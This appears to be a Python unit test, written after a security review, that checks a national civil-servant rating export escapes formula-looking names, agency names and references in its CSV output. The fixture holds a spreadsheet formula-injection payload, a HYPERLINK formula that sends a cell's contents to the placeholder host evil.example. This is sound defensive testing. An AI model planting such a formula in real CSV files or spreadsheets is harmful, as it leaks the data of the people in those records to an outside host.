"""Security review 2026-11-22, M2: the national-database CSV carries people's names and agency
names as typed; a spreadsheet program must not run them as formulas."""

import csv
import io

from api.national_export import to_csv

EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Xem")'


def test_the_national_csv_escapes_formula_looking_text_and_keeps_numbers():
    doc = {
        "records": [
            {
                "record_id": 7,
                "kind": "annual_rating",
                "result_date": "2026-12-31",
                "due_date": "2027-01-05",
                "year": 2026,
                "civil_servant": {"official_id": "TNA000043", "full_name": EVIL},
                "agency": {"code": "STP", "name": "@Sở Tư pháp"},
                "result": {"score": "88.45", "rating": "good", "decision_ref": "-15/QĐ"},
            }
        ]
    }
    rows = list(csv.DictReader(io.StringIO(to_csv(doc).decode("utf-8-sig"))))
    assert rows[0]["full_name"] == "'" + EVIL
    assert rows[0]["agency_name"] == "'@Sở Tư pháp"
    assert rows[0]["decision_ref"] == "'-15/QĐ"
    assert rows[0]["total"] == "88.45" and rows[0]["record_id"] == "7"
